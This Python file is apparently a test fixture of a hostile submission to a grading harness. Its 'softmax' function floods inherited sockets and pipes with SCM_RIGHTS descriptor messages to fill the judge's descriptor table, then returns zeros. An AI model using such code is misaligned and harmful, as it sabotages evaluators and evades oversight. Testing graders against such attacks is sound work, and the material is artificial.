"""Sends descriptors (SCM_RIGHTS) by the hundred over its sockets, to fill the judge's table.

tries: forge
earns: nothing
trace: none
"""

import array
import os
import select
import socket
import stat

import numpy as np


def pipes_and_sockets():
    """Every inherited descriptor that is a pipe or a socket; plain files are left alone."""
    found = []
    for fd in range(256):
        try:
            mode = os.fstat(fd).st_mode
        except OSError:
            continue
        if stat.S_ISSOCK(mode) or stat.S_ISFIFO(mode):
            found.append(fd)
    return found


def push(fd, data):
    """Write what fits now; never block, so that the attack is the bytes and not a hang."""
    try:
        if select.select([], [fd], [], 0)[1]:
            return os.write(fd, data)
    except (OSError, ValueError):
        pass
    return 0


def softmax(x, axis=-1):
    gift = os.open("/dev/null", os.O_RDONLY)
    rights = [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [gift] * 200))]
    for fd in pipes_and_sockets():
        try:
            with socket.socket(fileno=os.dup(fd)) as sock:
                for _ in range(20):
                    sock.sendmsg([b"\x00\x00\x00\x01"], rights, socket.MSG_DONTWAIT)
        except OSError:
            pass
    return np.zeros(np.shape(x))
